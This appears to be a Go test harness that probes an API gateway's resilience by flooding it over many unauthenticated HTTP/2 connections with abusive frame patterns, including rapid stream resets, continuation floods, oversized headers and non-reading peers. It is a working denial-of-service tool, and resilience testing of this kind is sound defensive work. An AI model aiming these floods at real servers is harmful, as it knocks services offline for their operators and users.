//go:build linux

//lint:file-ignore SA1019 an attacker sends frames that no client of net/http would

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A flood pauses after a number of frames. It is fast enough to show growth, and leaves some of the processor
// to others.
const (
	framesAtOnce = 200
	pace         = 2 * time.Millisecond
)

// control is the id of the stream that a peer opens first.
const control = 1

// A peer is a client that sends HTTP/2 frames itself.
type peer struct {
	conn   *tls.Conn
	framer *http2.Framer
	err    error // first error of a write
}

func (p *peer) note(err error) {
	if p.err == nil {
		p.err = err
	}
}

// headers encodes a list of names and values.
func headers(fields ...string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for i := 0; i < len(fields); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // writes to memory succeed
	}
	return block.Bytes()
}

// A flood is an endless series of frames. send sends the frames with number n.
type flood struct {
	name string
	send func(p *peer, n uint32)
}

func floods() []flood {
	large := strings.Repeat("x", 12<<10)
	return []flood{
		{"pings", func(p *peer, _ uint32) { p.note(p.framer.WritePing(false, [8]byte{})) }},
		{"settings", func(p *peer, n uint32) {
			p.note(p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n % (1 << 20)}))
		}},
		{"resets", func(p *peer, n uint32) { p.note(p.framer.WriteRSTStream(2*n+2, http2.ErrCodeCancel)) }},
		{"streams", func(p *peer, n uint32) { p.open(2*n+2, true) }},
		{"rapid resets", func(p *peer, n uint32) {
			p.open(2*n+3, false)
			p.note(p.framer.WriteRSTStream(2*n+3, http2.ErrCodeCancel))
		}},
		{"continuations", func(p *peer, n uint32) {
			if n == 0 {
				p.note(p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: control, BlockFragment: headers(":status", "200")}))
			}
			p.note(p.framer.WriteContinuation(control, false, headers("a", large)))
		}},
		{"empty continuations", func(p *peer, n uint32) {
			if n == 0 {
				p.note(p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: control}))
			}
			p.note(p.framer.WriteContinuation(control, false, nil))
		}},
		{"header", func(p *peer, _ uint32) {
			p.note(p.framer.WriteHeaders(http2.HeadersFrameParam{
				StreamID:      control,
				BlockFragment: headers(":status", "200", "a", large), EndHeaders: true,
			}))
		}},
		{"informational", func(p *peer, _ uint32) {
			p.note(p.framer.WriteHeaders(http2.HeadersFrameParam{
				StreamID:      control,
				BlockFragment: headers(":status", "103", "link", "x"), EndHeaders: true,
			}))
		}},
		{"empty data", func(p *peer, _ uint32) { p.note(p.framer.WriteData(control, false, nil)) }},
		{"padding", func(p *peer, _ uint32) { p.note(p.framer.WriteDataPadded(control, false, nil, make([]byte, 255))) }},
		{"window updates", func(p *peer, n uint32) { p.note(p.framer.WriteWindowUpdate(n%2, 1)) }},
		{"promises", func(p *peer, n uint32) {
			p.note(p.framer.WritePushPromise(http2.PushPromiseParam{
				StreamID: control, PromiseID: 2*n + 2,
				BlockFragment: headers(":method", "GET"), EndHeaders: true,
			}))
		}},
		{"unknown frames", func(p *peer, _ uint32) { p.note(p.framer.WriteRawFrame(0x77, 0, 0, []byte(large))) }},
		{"priorities", func(p *peer, n uint32) {
			p.note(p.framer.WritePriority(2*n+3, http2.PriorityParam{Weight: 1}))
		}},
	}
}

// open sends the header of a stream.
func (p *peer) open(id uint32, end bool) {
	p.note(p.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: headers(":method", "POST", ":path", "/v1/chat/completions", ":scheme", "https",
			":authority", "x"),
		EndHeaders: true, EndStream: end,
	}))
}

// flood sends frames until the gateway closes the connection. A deaf peer does not read.
func (p *peer) flood(ctx context.Context, f flood, deaf bool) (frames uint32) {
	if !deaf {
		go func() { _, _ = io.Copy(io.Discard, p.conn) }()
	}
	for ; p.err == nil && ctx.Err() == nil; frames++ {
		f.send(p, frames)
		if frames%framesAtOnce == framesAtOnce-1 {
			time.Sleep(pace)
		}
	}
	return frames
}

// tally counts the frames or requests that were sent, by kind.
type tally struct {
	sync.Mutex
	frames map[string]int
}

func (c *tally) add(name string, frames uint32) {
	c.Lock()
	defer c.Unlock()
	if c.frames == nil {
		c.frames = make(map[string]int)
	}
	c.frames[name] += int(frames)
}

// flooding runs two peers for each flood. They reconnect when they are disconnected.
func flooding(ctx context.Context, g *target) string {
	var count tally
	all := floods()
	crowd(ctx, 2*len(all), func(i, _ int) error {
		p, err := joinAPI(ctx, g, i)
		if err != nil {
			return err
		}
		defer p.conn.NetConn().Close()
		defer context.AfterFunc(ctx, func() { _ = p.conn.NetConn().Close() })()
		f := all[i%len(all)]
		count.add(f.name, p.flood(ctx, f, i >= len(all)))
		time.Sleep(50 * time.Millisecond) // gives others some time to connect
		return nil
	})
	return fmt.Sprint(count.frames)
}

// joinAPI connects as a client of the API, without a key.
func joinAPI(ctx context.Context, g *target, i int) (*peer, error) {
	dialer := tls.Dialer{
		NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: address(i)}},
		Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: "localhost"},
	}
	conn, err := dialer.DialContext(ctx, "tcp4", strings.TrimPrefix(g.URL, "https://"))
	if err != nil {
		return nil, err
	}
	p := &peer{conn: conn.(*tls.Conn), framer: http2.NewFramer(conn, conn)}
	p.framer.AllowIllegalReads, p.framer.AllowIllegalWrites = true, true
	_, err = io.WriteString(conn, http2.ClientPreface)
	p.note(err)
	p.note(p.framer.WriteSettings())
	p.open(control, false)
	return p, p.err
}
